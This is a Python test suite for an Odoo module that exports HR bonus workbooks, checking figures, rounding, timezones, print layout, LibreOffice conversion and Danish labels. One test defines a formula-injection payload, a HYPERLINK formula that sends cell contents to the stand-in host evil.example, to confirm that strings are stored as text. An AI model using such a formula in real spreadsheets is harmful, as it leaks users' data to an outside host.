"""The bonus workbook as HR reads, prints and checks it: base amount, payout %, bonus, what the
totals are, the timezone of its dates, the print setup, LibreOffice, the reader's language."""

import datetime
import io
import pathlib
import re
import shutil
import subprocess
import tempfile

import openpyxl
import pytest
from freezegun import freeze_time

from odoo.addons.kpi_management.report.bonus_xlsx import build_bonus_xlsx

from .bonus_common import BonusCase
from .common import NOW, TZ, load_danish

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
PDFTOTEXT = shutil.which("pdftotext")

HEADER = {
    "title": "Bonus sheet SB/Team A/2026-11", "company": "ACME & Sons", "scheme": "Sales bonus",
    "team": "Team A", "period": "2026-11-01 - 2026-11-30", "currency": "EUR",
    "currency_format": '#,##0.00 "EUR"', "currency_decimals": 2, "base_amount": 5000,
    "timezone": "Europe/Copenhagen", "paper": "A4",
    # naive UTC, as Odoo stores it: 09:30 UTC is 10:30 in Copenhagen in November
    "approvals": [("Approved by HR", "Hanna", datetime.datetime(2026, 12, 2, 9, 30))],
    "signatories": [("Submitted by", "Olga", datetime.datetime(2026, 12, 1, 8, 0)),
                    ("Approved by manager", "Magnus", datetime.datetime(2026, 12, 1, 12, 0)),
                    ("Approved by HR", "Hanna", datetime.datetime(2026, 12, 2, 9, 30))],
}
KPIS = ["Sales volume", "New clients", "Customer service"]
SUMMARY_TITLES = ["Employee", "Login", "Profile", "Notes", "Weighted Score (%)", "Payout (%)",
                  "Bonus (EUR)"]
DETAIL_TITLES = ["Employee", "KPI", "Value", "Target", "Score (%)", "Weight (%)",
                 "Weight Used (%)", "Points", "How"]


def employee(name, score, payout, amount, note=""):
    return {"name": name, "login": name.lower(), "profile": "Sales",
            "note": note, "total_score": score, "payout_percent": payout, "amount": amount,
            "kpis": [{"value": 125000, "target": 100000, "score": 125, "weight": 30,
                      "scheme_weight": 30, "points": 37.5,
                      "note": "Measured once over the days in the team: 4 records counted."},
                     {"value": 2, "target": 2, "score": 100, "weight": 30, "scheme_weight": 30,
                      "points": 30, "note": "Average of 30 daily results."},
                     {"value": 90, "target": 100, "score": 90, "weight": 40,
                      "scheme_weight": 40, "points": 36, "note": "Assessed by Magnus: 90%."}]}


ROWS = [employee("Valery", 125, 125, 6250),
        employee("Vasily", 80, 60, 1500,
                 note="Archived: last day in the team 2026-11-15. Paid for 15 of the 30 days "
                      "of the period."),
        employee("Vera", 40, 0, 0)]


def book(content, data_only=False):
    return openpyxl.load_workbook(io.BytesIO(content), data_only=data_only)


def read(content):
    return book(content).active


def header_row(ws, first_title="Employee"):
    return next(r for r in range(1, 30) if ws.cell(r, 1).value == first_title)


def row_of(ws, label, start=1):
    return next(r for r in range(start, ws.max_row + 1) if ws.cell(r, 1).value == label)


def info(ws, label):
    """The name or value right of ``label`` in the header block (column A), and the date (in
    the Notes column)."""
    row = row_of(ws, label)
    return [ws.cell(row, col).value for col in (2, 4)]


def table(ws, first_title="Employee"):
    """The rows of the table under its header row, down to the first empty first cell."""
    head = header_row(ws, first_title)
    rows = []
    for values in ws.iter_rows(min_row=head + 1, values_only=True):
        if values[0] is None:
            break
        rows.append(list(values))
    return rows


def print_area(ws):
    """The printed range, e.g. ``$A$1:$G$21`` (openpyxl gives a list, or a string)."""
    area = ws.print_area
    area = area[0] if isinstance(area, list) else area
    return area.rsplit("!", 1)[-1]


def convert(content, fmt):
    """Convert ``content`` with LibreOffice into ``fmt``; (return code, output path, log)."""
    with tempfile.TemporaryDirectory() as tmp:
        src = pathlib.Path(tmp, "bonus.xlsx")
        src.write_bytes(content)
        profile = pathlib.Path(tmp, "profile").as_uri()  # no shared LibreOffice profile
        proc = subprocess.run(
            [SOFFICE, "-env:UserInstallation=%s" % profile, "--headless", "--convert-to", fmt,
             "--outdir", str(pathlib.Path(tmp, "out")), str(src)],
            capture_output=True, text=True, timeout=180, check=False)
        out = pathlib.Path(tmp, "out", "bonus.%s" % fmt.split(":")[0])
        data = out.read_bytes() if out.exists() else None
        return proc.returncode, data, proc.stdout + proc.stderr


def test_two_worksheets_the_summary_first():
    wb = book(build_bonus_xlsx(HEADER, KPIS, ROWS))
    assert wb.sheetnames == ["Bonuses", "KPIs"]
    assert wb.active.title == "Bonuses"


def test_what_hr_checks_a_payment_with():
    ws = read(build_bonus_xlsx(HEADER, KPIS, ROWS))
    assert ws.cell(1, 1).value == "Bonus sheet SB/Team A/2026-11"
    assert info(ws, "Company")[0] == "ACME & Sons"
    assert info(ws, "Base Amount")[0] == 5000
    assert "EUR" in ws.cell(row_of(ws, "Base Amount"), 2).number_format
    assert "payout (%)" in info(ws, "Base Amount")[1]
    # dates in the company's timezone, named
    assert info(ws, "Timezone")[0] == "Europe/Copenhagen"
    assert info(ws, "Approved by HR") == ["Hanna", datetime.datetime(2026, 12, 2, 10, 30)]
    head = header_row(ws)
    assert [c.value for c in ws[head]] == SUMMARY_TITLES
    assert [row[:3] + row[4:] for row in table(ws)[:3]] == [
        ["Valery", "valery", "Sales", 125, 125, 6250],
        ["Vasily", "vasily", "Sales", 80, 60, 1500],
        ["Vera", "vera", "Sales", 40, 0, 0]]
    assert "EUR" in ws.cell(head + 1, 7).number_format
    # the amount per employee: prorated, said in the notes, wrapped
    assert "Paid for 15 of the 30 days" in ws.cell(head + 2, 4).value
    assert ws.cell(head + 2, 4).alignment.wrap_text
    # "Total" labels the bonus total only; the weighted score's average is labelled Average
    total, average = head + 4, head + 5
    assert ws.cell(total, 1).value == "Total"
    assert ws.cell(total, 7).value == "=SUM(G%s:G%s)" % (head + 1, head + 3)
    assert ws.cell(total, 5).value is None
    assert ws.cell(total, 6).value is None
    assert ws.cell(average, 1).value == "Average"
    assert ws.cell(average, 5).value == "=ROUND(AVERAGE(E%s:E%s),2)" % (head + 1, head + 3)
    assert ws.cell(average, 7).value is None
    # cached values, as a reader without a formula engine sees them: rounded
    cached = book(build_bonus_xlsx(HEADER, KPIS, ROWS), data_only=True).active
    assert (cached.cell(total, 7).value, cached.cell(average, 5).value) == (7750, 81.67)
    # the tables: frozen header, autofilter
    assert ws.freeze_panes == "B%s" % (head + 1)
    assert ws.auto_filter.ref == "A%s:G%s" % (head, head + 3)


def test_details_one_row_per_employee_and_kpi():
    rows = [dict(ROWS[0]), ROWS[1]]
    rows[0]["kpis"] = [ROWS[0]["kpis"][0],
                       {"value": 0, "target": 2, "score": 0, "weight": 0, "scheme_weight": 30,
                        "points": 0, "no_data": True, "note": "No data: nothing to measure."},
                       None]  # a KPI the employee does not have: no row
    ws = book(build_bonus_xlsx(HEADER, KPIS, rows))["KPIs"]
    head = header_row(ws)
    assert [c.value for c in ws[head]] == DETAIL_TITLES
    assert table(ws) == [
        ["Valery", "Sales volume", 125000, 100000, 125, 30, 30, 37.5,
         "Measured once over the days in the team: 4 records counted."],
        # nothing to measure: said in words, never a 0 that looks measured
        ["Valery", "New clients", "no data", 2, "no data", 30, 0, 0,
         "No data: nothing to measure."],
        ["Vasily", "Sales volume", 125000, 100000, 125, 30, 30, 37.5,
         "Measured once over the days in the team: 4 records counted."],
        ["Vasily", "New clients", 2, 2, 100, 30, 30, 30, "Average of 30 daily results."],
        ["Vasily", "Customer service", 90, 100, 90, 40, 40, 36, "Assessed by Magnus: 90%."]]
    assert ws.cell(head + 1, 9).alignment.wrap_text  # how it was derived: wrapped
    assert ws.freeze_panes == "C%s" % (head + 1)
    assert ws.auto_filter.ref == "A%s:I%s" % (head, head + 5)
    # the points, when not given: score x weight used / 100
    rows = [dict(ROWS[0], kpis=[{"value": 1, "target": 1, "score": 80, "weight": 25}] * 3)]
    ws = book(build_bonus_xlsx(HEADER, KPIS, rows))["KPIs"]
    assert table(ws)[0][5:8] == [None, 25, 20]


def test_figures_are_rounded_to_what_they_mean():
    noisy = dict(ROWS[0], total_score=45.68000000000001, payout_percent=33.333333333333336,
                 amount=1234.5600000000002,
                 kpis=[{"value": 45.68000000000001, "target": 0.1 + 0.2, "score": 2 / 3 * 100,
                        "weight": 100 / 3, "scheme_weight": 100 / 3, "points": 0.1 + 0.2}] * 3)
    content = build_bonus_xlsx(HEADER, KPIS, [noisy])
    summary, details = book(content).worksheets
    assert table(summary)[0][4:] == [45.68, 33.33, 1234.56]
    assert table(details)[0][2:8] == [45.68, 0.3, 66.67, 33.33, 33.33, 0.3]
    # amounts to the currency's decimals: none for a currency without decimals
    content = build_bonus_xlsx(dict(HEADER, currency_decimals=0, base_amount=4999.6),
                               KPIS, [dict(noisy, amount=1234.56)])
    summary = read(content)
    assert table(summary)[0][6] == 1235
    assert info(summary, "Base Amount")[0] == 5000


def test_signatures_block():
    ws = read(build_bonus_xlsx(HEADER, KPIS, ROWS))
    row = row_of(ws, "Signatures", header_row(ws))
    assert [ws.cell(row, col).value for col in (2, 4, 5)] == ["Name", "Date", "Signature"]
    assert [[ws.cell(r, col).value for col in (1, 2, 4)] for r in (row + 1, row + 2, row + 3)] \
        == [["Submitted by", "Olga", datetime.datetime(2026, 12, 1, 9, 0)],
            ["Approved by manager", "Magnus", datetime.datetime(2026, 12, 1, 13, 0)],
            ["Approved by HR", "Hanna", datetime.datetime(2026, 12, 2, 10, 30)]]
    # a line to sign on, in a row high enough to sign in, and printed
    assert ws.cell(row + 1, 5).border.bottom.style == "thin"
    assert ws.row_dimensions[row + 1].height >= 30
    assert print_area(ws) == "$A$1:$G$%s" % (row + 3)
    # no signatories given: no block
    ws = read(build_bonus_xlsx(dict(HEADER, signatories=[]), KPIS, ROWS))
    assert "Signatures" not in [c.value for c in ws["A"]]


def test_print_setup():
    summary, details = book(build_bonus_xlsx(HEADER, KPIS, ROWS)).worksheets
    for ws, orientation, last_col in ((summary, "portrait", "G"), (details, "landscape", "I")):
        head = header_row(ws)
        assert ws.page_setup.orientation == orientation
        assert ws.page_setup.paperSize == 9  # A4, the company's paper format
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        # one page wide (1 is the default, which xlsxwriter leaves out), any number tall
        assert ws.page_setup.fitToWidth in (None, 1)
        assert ws.page_setup.fitToHeight == 0
        assert ws.print_title_rows == "$%s:$%s" % (head, head)  # the header on every page
        assert print_area(ws).startswith("$A$1:$%s$" % last_col)
        assert "Bonus sheet SB/Team A/2026-11" in ws.oddHeader.left.text
        assert ws.oddHeader.right.text == "2026-11-01 - 2026-11-30"
        assert ws.oddFooter.left.text == "ACME && Sons"  # "&" escaped, not a header code
        assert ws.oddFooter.right.text == "Page &P of &N"
    # few columns, so that the page is printed at about the size it is written in: about 110
    # characters wide portrait, 160 landscape (A4 or Letter: 11 pt scaled to 9 pt or more;
    # xlsxwriter adds 0.71 of padding to each column)
    assert sum(summary.column_dimensions[col].width for col in "ABCDEFG") <= 115
    assert sum(details.column_dimensions[col].width for col in "ABCDEFGHI") <= 165
    # the header block and the table down to the Average row are printed
    head = header_row(summary)
    assert int(print_area(summary).rsplit("$", 1)[1]) >= head + 5


def test_a_replaced_sheet_says_so_on_every_page():
    warning = "Replaced by (not to be paid): SB/Team A/2026-11 (2)"
    summary, details = book(build_bonus_xlsx(dict(HEADER, warning=warning), KPIS,
                                             ROWS)).worksheets
    for ws in (summary, details):
        assert ws.cell(2, 1).value == warning
        assert ws.cell(2, 1).font.color.rgb.endswith("C00000")
        assert warning in ws.oddHeader.left.text


def test_english_without_labels_and_no_rows():
    header = {"title": "Empty", "currency": "EUR", "approvals": []}
    summary, details = book(build_bonus_xlsx(header, ["Net profit"], [])).worksheets
    assert (summary.title, details.title) == ("Bonuses", "KPIs")
    assert info(summary, "Timezone")[0] == "UTC"  # no timezone given: UTC, and said so
    head = header_row(summary)
    assert summary.cell(head + 1, 1).value == "Total"
    assert summary.print_title_rows == "$%s:$%s" % (head, head)
    assert table(details) == []
    assert details.page_setup.paperSize is None  # no paper given: the printer's


def test_labels_are_the_readers():
    labels = {"employee": "Medarbejder", "total": "I alt", "average": "Gennemsnit",
              "sheet": "Bonusser: [nov]", "details_sheet": "KPI'er", "page": "Side &P af &N",
              "timezone": "Tidszone", "signatures": "Underskrifter"}
    summary, details = book(build_bonus_xlsx(dict(HEADER, labels=labels), KPIS,
                                             ROWS)).worksheets
    assert summary.title == "Bonusser   nov"  # no character Excel refuses in a sheet name
    assert details.title == "KPI'er"
    head = header_row(summary, "Medarbejder")
    assert summary.cell(head + 4, 1).value == "I alt"
    assert summary.cell(head + 5, 1).value == "Gennemsnit"
    assert row_of(summary, "Underskrifter") > head + 5
    assert info(summary, "Tidszone")[0] == "Europe/Copenhagen"
    assert header_row(details, "Medarbejder")
    assert summary.oddFooter.right.text == details.oddFooter.right.text == "Side &P af &N"
    # two tabs of the same name: Excel refuses them
    labels = {"sheet": "Bonus", "details_sheet": "bonus"}
    assert book(build_bonus_xlsx(dict(HEADER, labels=labels), KPIS, ROWS)).sheetnames == [
        "Bonus", "bonus 2"]


def test_strings_are_written_as_text_on_both_sheets():
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    header = dict(HEADER, title=evil, company=evil, team=evil, approvals=[(evil, evil, None)],
                  signatories=[(evil, evil, None)], warning=evil)
    rows = [dict(ROWS[0], name=evil, login="=1+1", profile="+SUM(A1)", note="-2",
                 kpis=[dict(kpi, note=evil) for kpi in ROWS[0]["kpis"]])]
    summary, details = book(build_bonus_xlsx(header, [evil, "@SUM(1)", "1e3"], rows)).worksheets
    given = {evil, "=1+1", "+SUM(A1)", "-2", "@SUM(1)", "1e3"}
    cells = [c for ws in (summary, details) for row in ws.iter_rows() for c in row
             if c.value in given]
    # summary: title, warning, company, team, approval x2, signatory x2, name, login,
    # profile, note; details: title, warning, 3 x (name, KPI, how)
    assert len(cells) == 12 + 2 + 9
    assert all(cell.data_type == "s" for cell in cells), [c.coordinate for c in cells]


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice (soffice/libreoffice) is not installed: "
                                        "the conversion check needs it")
def test_libreoffice_prints_each_sheet_one_page_wide():
    many = [employee("Employee %03d" % n, 100, 100, 5000) for n in range(200)]
    for rows, pages in ((ROWS, 2), (many, None)):
        code, pdf, log = convert(build_bonus_xlsx(HEADER, KPIS, rows), "pdf")
        assert code == 0, log
        assert pdf and pdf.startswith(b"%PDF"), log
        count = len(re.findall(rb"/Type\s*/Page(?!s)", pdf))
        if pages:  # the summary on one page, the details on one
            assert count == pages
        else:  # one page wide, as many tall as needed: 200 + 600 rows on fewer than 40 pages
            assert 2 < count < 40
        if PDFTOTEXT:  # every page is a full width page: its first and last column titles
            with tempfile.NamedTemporaryFile(suffix=".pdf") as tmp:
                tmp.write(pdf)
                tmp.flush()
                text = subprocess.run([PDFTOTEXT, "-layout", tmp.name, "-"],
                                      capture_output=True, text=True, check=True).stdout
            pages_text = [page for page in text.split("\f") if page.strip()]
            assert len(pages_text) == count
            for page in pages_text:
                assert "Employee" in page
                assert "Bonus (EUR)" in page or "How" in page
                assert re.search(r"Page \d+ of %s" % count, page)
    code, csv, log = convert(build_bonus_xlsx(HEADER, KPIS, ROWS), "csv")
    assert code == 0, log
    assert b"Payout (%)" in csv and b"Valery" in csv


@freeze_time(NOW)
class TestSheetWorkbook(BonusCase):
    def setUp(self):
        super().setUp()
        self.won_lead(self.salesman, NOW - datetime.timedelta(days=3), revenue=110000)
        self.rule_volume.evaluate()
        self.sheet = self.new_sheet()
        for user in (self.salesman, self.salesman2):
            self.assess(self.sheet, user, self.manager, 100)
        self.sheet.with_user(self.officer).action_compute()
        self.approve(self.sheet)

    def export(self, user=None):
        return read(self.sheet.with_user(user or self.officer)._get_xlsx_content())

    def test_base_payout_amount_and_timezone(self):
        self.env.company.partner_id.tz = "America/New_York"
        ws = self.export()
        self.assertEqual(info(ws, "Base Amount")[0], 10000)
        self.assertEqual(info(ws, "Timezone")[0], "America/New_York")
        # approved at 10:00 UTC on 23 November: 05:00 in New York
        self.assertEqual(info(ws, "Approved by HR"),
                         [self.hr.name, datetime.datetime(2026, 11, 23, 5, 0)])
        head = header_row(ws)
        currency = self.sheet.currency_id
        self.assertEqual([c.value for c in ws[head]],
                         SUMMARY_TITLES[:-1] + ["Bonus (%s)" % currency.name])
        lines = self.sheet.line_ids.sorted(lambda line: (line.rank, line.id))
        self.assertEqual(
            [row[1:2] + row[4:] for row in table(ws)[:len(lines)]],
            [[line.login, round(line.total_score, 2), round(line.payout_percent, 2),
              currency.round(line.amount)] for line in lines])
        self.assertTrue(any(line.payout_percent for line in lines))
        total = head + 1 + len(lines)
        self.assertEqual(ws.cell(total, 1).value, "Total")
        self.assertIsNone(ws.cell(total, 5).value)
        self.assertEqual(ws.cell(total + 1, 1).value, "Average")
        self.assertEqual(ws.page_setup.orientation, "portrait")
        self.assertEqual(ws.print_title_rows, "$%s:$%s" % (head, head))
        # the three signatories sign under the table
        signatures = row_of(ws, "Signatures", head)
        self.assertEqual([ws.cell(signatures + n, 2).value for n in (1, 2, 3)],
                         [self.officer.name, self.manager.name, self.hr.name])

    def test_details_are_the_sheets(self):
        self.env.company.paperformat_id = self.env.ref("base.paperformat_us")
        details = book(self.sheet.with_user(self.officer)._get_xlsx_content())["KPIs"]
        self.assertEqual([c.value for c in details[header_row(details)]], DETAIL_TITLES)
        expected = []
        for line in self.sheet.line_ids.sorted(lambda line: (line.rank, line.id)):
            for detail in line.detail_ids.sorted(
                    lambda detail: (detail.scheme_line_id.sequence, detail.scheme_line_id.id)):
                expected.append([
                    line.employee_name,
                    detail.name,
                    "no data" if detail.no_data else round(detail.value, 2),
                    round(detail.target, 2),
                    "no data" if detail.no_data else round(detail.score, 2),
                    round(detail.weight, 2), round(detail.weight_used, 2),
                    round(detail.contribution, 2), detail.note or ""])
        self.assertEqual(table(details), expected)
        self.assertTrue(any(row[-1] for row in expected))  # how it was derived, written
        self.assertEqual(details.page_setup.orientation, "landscape")
        self.assertEqual(details.page_setup.paperSize, 1)  # the company's: US Letter

    def test_timezone_falls_back_to_the_exporting_user(self):
        self.env.company.partner_id.tz = False
        ws = self.export()
        self.assertEqual(info(ws, "Timezone")[0], TZ)
        self.assertEqual(info(ws, "Approved by HR")[1], datetime.datetime(2026, 11, 23, 11, 0))

    def test_danish_user_gets_a_danish_workbook(self):
        load_danish(self.env)
        self.officer.lang = "da_DK"
        ws = self.export()
        self.assertEqual(ws.title, "Bonusser")
        head = header_row(ws, "Medarbejder")
        titles = [c.value for c in ws[head]]
        self.assertEqual(titles[:3], ["Medarbejder", "Login", "Profil"])
        self.assertEqual(titles[4:6], ["Vægtet score (%)", "Udbetaling (%)"])
        self.assertIn(info(ws, "Godkendt af HR")[0], (self.hr.name,))
        self.assertEqual(info(ws, "Grundbeløb")[0], 10000)
        self.assertEqual(ws.cell(head + 3, 1).value, "I alt")
        details = ws.parent.worksheets[1]
        detail_titles = [c.value for c in details[header_row(details, "Medarbejder")]]
        self.assertIn("Værdi", detail_titles)
        self.assertIn("Anvendt vægt (%)", detail_titles)
        # no English label left (Login, Score (%) and Bonus are the same words in Danish)
        english = read(self.sheet.with_user(self.hr)._get_xlsx_content())
        english_head = header_row(english)
        labels = {english.cell(r, 1).value for r in range(2, english_head)}
        labels |= {c.value for c in english[english_head]}
        labels |= {english.cell(r, 1).value for r in (english_head + 3, english_head + 4)}
        labels = {label for label in labels if label and not any(
            word in label for word in ("Login", "Score (%)", "Bonus ("))}
        danish = {c.value for row in ws.iter_rows() for c in row}
        self.assertFalse(sorted(labels & danish))
        self.assertNotEqual(ws.oddFooter.right.text, "Page &P of &N")
